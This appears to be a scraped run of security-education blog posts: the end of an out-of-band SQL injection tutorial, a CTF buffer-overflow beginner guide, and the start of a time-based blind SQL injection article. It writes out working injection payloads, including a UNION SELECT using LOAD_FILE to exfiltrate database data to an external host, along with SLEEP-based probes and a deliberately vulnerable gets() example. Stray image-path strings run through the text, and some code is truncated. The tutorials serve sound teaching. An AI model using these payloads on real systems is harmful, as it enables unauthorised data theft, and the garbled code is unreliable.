1' union select1,version(),3,4,5-- and '1'='1

For OOB SQL Injection in MySQL, the payload is simple:

SELECT LOAD_FILE(CONCAT('\\\\', (our query), '\\a.txt'));

From our testing, it seems that the strings after the domain name (\\a.txt) is needed. Thus, ensure not to miss it in your testing.

The final payload looks like the following:

1' union select 1,(SELECT LOAD_FILE(CONCAT('\\\\', version(),'\\a.txt'))),3,4,5-- and '1'='1

As the result, we could see as in the screenshot below, the data was exfiltrated to our external domain (Interactsh) instead of being displayed on the web application.

That’s all for this series. We will probably produceanother series soon.

We hope everyone could learn something from this series.

Thank you.



Sunday 7 January 2024

[re:educate] How to Pwn Buffer Overflow - Overwriting Variable

How to Pwn Buffer Overflow - Overwriting Variable

This article is written by one of MCC alumni, Wan Muhammad Khairuddin from Universiti Teknikal Malaysia Melaka (UTeM). Wan is one of the skilled CTF players and have good understanding in reverse engineering and pwn categories. He observed there is an increasing of CTF fans among the students and would like to share a basic on how to solve PWN category.

Have you ever heard of buffer overflow? Have you tried to exploit them? Or perhaps you have no idea what it is or what you can dowith it?

Buffer overflow is a common challenge in Capture the Flag (CTF) competition under binary exploitation or pwn category. If you ever played CTF, you might have encounter this category but do not know how to solve it.

In this article, we will together explore a vulnerability called stack buffer overflow and how to exploit them. Letstogether try to understand the basic things about memory/stack, and what is it happening when a program is running at low level. With these information, we could be able to understand how to detect this vulnerability, why is the cause and how we can exploit it to overwrite variable value.


A buffer overflow condition exists when a program attempts to put more
data in a buffer than it can hold or when a program attempts to put
data in a memory area past a buffer. — OWASP Foundation

Okay, what is that?

Buffer overflow is a vulnerability that can be found in a software or a compiled binary caused by the usage of insecure function that takes user input. In most of the times, this compiled binary is written in C programming and the developer used an insecure function such as gets(), strcpy() or scanf to get the user input.

Whatis wrong with these functions?

We maybe often using these functions in our school project to collect user input, so we might not be aware that these functions can cause a security problem.

Insecure function

As what have been mentioned, the gets(), strcpy() and scanf() are insecure functions. Why? Now let’s talk about that.

These functions are not secure because they take user input and store it in a variable without checking how much the variable can store. In other words, these functions can take a long user input and stores it in a variable that has a size shorter than the user input.For example, we may create a variable to store strings with length 24 characters.

char name[24]; // variable to store name. only 24 characters !!

Then we use an insecure function gets() to take user input and store it inside the name variable.

gets(name); // take user input and store it in name variable

The gets() function does not know that the name variable can only stores 24 characters but it will take as much user input as it can until the user press Enter and store it in name variable. Same goes to the other mentioned functions like strcpy or scanf.Now that we know the behaviour of these insecure functions, then what happen to that long user input? Well, it will be stored in the name variable, BUT only the 24 characters will be stored while the remaining characters will overflow to the adjacent memory region!

In other words, it will overflow and overwrite other variables. And this iswhat we called as stack buffer overflow. So, if we enter 100 characters of “A”, only 24 characters will be stored in the name and the other 76 characters will overflow to the other memory region.

Overwrite variable

Now we know that this bug or vulnerability allows our user input to overwrite other data in memory, we can actually take advantage or exploit this bug to overwrite other variables that exist in the program.

Lets see the below code as an example:

#include <stdio.h>
#include <string.h>

int main() {
    char name[]="Mike"; // name variable contains "Mike"
    char buffer[10];

    printf("Enter a string: ");
    gets(buffer); // take user input

    printf("name variable contains: %s\n", name); // print name variable
    return 0;The code above has two variables, name which has a value “Mike” and buffer which can only store 10 characters. Then the code asks for user input using gets() function (the insecure function) and stores it in the buffer variable. Finally the code prints out name variable. If we run the program and enter “hello” as user input, what will be the output?

Correct, itwill print out “Mike”.

But what if we enter 16 "A"s, “AAAAAAAAAAAAAAAA”? Do not be suprise that the name variable does not store “Mike” anymore. Now the output will be “AAAAAA”. Mindblown


To understand that, we need to understand “stack”, the memory region that store variables and addresses. Every function in a program has a memory layout that we call as “stack frame”. Inside this stack frame, the value for variable is stored on top of each other. For example, main() function has 2 variables. So the value for these variables will be stored inside main() function’s stack frame. The stack frame looks like the following:

|     return address    | // ignore this for now
|function's base address| // ignore this for now
|         Mike          | <- value for name variable
|                       | <- value for buffer variable. only 10 characters!!
|                       |

As per the above diagram, that is how the value for each variables stored in memory. They sit on top of each other. When we enter “hello”, it will be stored below the name variable. But when we enter “AAAAAAAAAAAAAAAA”, only 10 "A"s will be stored inside the buffer variable while the rest will overflow into name variable as a result overwriting the value in name variable.

Worth noting that the value is stored from bottom to top, thats why the "A"s overflow to the top and not to the bottom. Now if we enter “AAAAAAAAAACCCCCC”, the output that we will get is “CCCCCC”. You can tryrun this and see it for yourself.

|     return address    | // ignore this for now
|function's base address| // ignore this for now
|        CCCCCC         | <- value for name variable
|      AAAAAAAAAA       | <- value for buffer variable. only 10 characters!!
|                       |

The challenge

Now that we understand the theory, lets try a challenge. Without looking at the solution, lets make the following program print “you win”.

int main() {
    int secret = 0x12341234; // Initialize the secret variable
    char text[] = "I love cats";
    char buffer[10];
    puts("Enter:");

    if (secret == 0x4f4f4f4f) {
        printf("You win!\n");
    } else {
        printf("You lose :( your secret is %x, not 0x4f4f4f4f\n", secret);

    return 0;

Tips: Find out how much character we need to enter to completely fill thebuffer variable and overwrite text variable before we can overwrite secret ?


Got it? Would like to verify if your solution is correct? Lets dive in together.

To solve this challenge, we need to build our own exploit payload. To build the payload, we have to calculate the size of the buffer and text.

size of buffer = 10
size of text = 11 # including whitespace
size of buffer + size of text + 1 char for nullbyte = 21

So, our payload has to be 22 in length to fill buffer variable and completely overwrite the text variable. But this is not enough since our main goal is to overwrite secret, so we need to add another 4 characters (0x4f4f4f4f is 4 bytes or characters). So what is 0x4f4f4f4f is translated to in ascii character? its ‘O’. Finally, our payload should look like this


where ‘A’ is a junk character and we can replace with any character.

Got it? Congratulations!


Stack buffer overflow is an impactful vulnerability and we can do more than just overwriting variable. Using this vulnerability, attacker can exploit it and get a Remote Code Execution (RCE). This article just explain a small part of buffer overflow attack and there is more to it such as overwriting return address to change the execution flow of the vulnerable program.

But before we try to go through to further process on achieving RCE, it is crucial to have a basicunderstanding first such as how does the stack look like. Being able to visualise the stack is very helpful when exploiting this vulnerability.

That’s all, thank you !


Friday 5 January 2024

Understanding Types of SQL Injection Attacks - Part 3

Types of SQL Injection Attacks (Part 2)-full.html

Hello! Previously, we looked at the Boolean-based approach, which is one of the techniques under the Inferential SQL Injection article. We are going to continue further to explore another type of technique that is generally used in Inferential SQL Injection, Time-based.

Let us refresh a bit what is Inferential SQL injection is about.

Inferential SQL injection
Inferential SQL injection, commonly known as blind SQL injection, occurs when the attacker analyses server responses and behavioral patterns after injecting specific payloads. Unlike in-band attacks, no data directly returned by the web application to the attacker, which defines why it is called “blind” attacks.

The two most common techniques of inferential (blind) SQL injection are:

  1. Boolean-based (covered in the previous article)
  2. Time-based

Now, let’s dig in what is Time-based technique.

In time-based SQL injection, the attacker sends a crafted query, prompting the database to delay its response. Generally, aprolonged delay indicates a TRUE, while an immediate response indicates a FALSE. This could be different based on the situations and type of payloads used.

As an example, we will use a similar query like in the Boolean-based; utilising IF() function:


Still remember how the function works?

IF(_condition_, _value_if_true_, _value_if_false_)

The _condition_ is set to 1=1 which evaluates to TRUE, so the function will execute the _value_if_true_, which in this case has been set to SLEEP(5). This initiates a deliberate delay of 5 seconds using the SLEEP function. This delay serves as a distinctive marker for a TRUE.

Now, let us take a look on examples using DB Fiddle.

A normal response will be executed within 1ms (observe the “Execution time”)

What would happen if we injected with SLEEP() function? The application response will be delayed on how many seconds the SLEEP() function set before it loads the content.SELECT @@version and SLEEP(5);

Observe the execution time is 5001ms = 5 seconds + 1 miliseconds

So, why do we need to use a SLEEP() function (or other similar function) to invoke the delay? Remember, we are facing a situation where no visibleresponse is returned to us. Hence, we need to trigger an indicator to assist us to determine if the query is actually executed, and a delay response by the server is one of the ways.

How we could weaponised this condition to assist us in exfiltrating information through SQL Injection exploitation? Let’s dig it further using the following example:


The above SQL query verifies if the condition (SELECT COUNT(*) FROM staff) = 7 is TRUE. The COUNT() function returns the number of records returned by a select query. Hence, if the number of the records within the staff table is correct, the SLEEP(5) function will be executed and the application response will be delayed for 5 seconds. Otherwise, the ERROR will appear.

The result shows the execution time is 5001ms (5 seconds), means we found the correct number of records.

Let us take a look what would happen if the condition is set to FALSE.


The query response immediately and returned the ERROR to indicates that the query evaluates to FALSE. Here theexecution time is 0ms (0 second).

Do note that:

  • In time-based context, the execution time is what we need to observe:
    a. Delay response, can indicates the query is TRUE.
    b. Immediate response, can indicates the query is FALSE.

Wait what? That’s so confusing. Does that means we can set the delay on FALSE too? You guessed it right! Let’s look the following examples and observe the execution time.


Why? Remember that we are using IF() function. In IF() function, it evaluates the condition and will execute whatever we included as TRUE and FALSE.

The following are examples of SQL functions (in MySQL) that are generally used to invoke the delay response in time-based approach:


Now, let’s shift our focus to a practical example from Damn Vulnerable Web Application (DVWA).

Scenario: Blind SQL injection with time delays

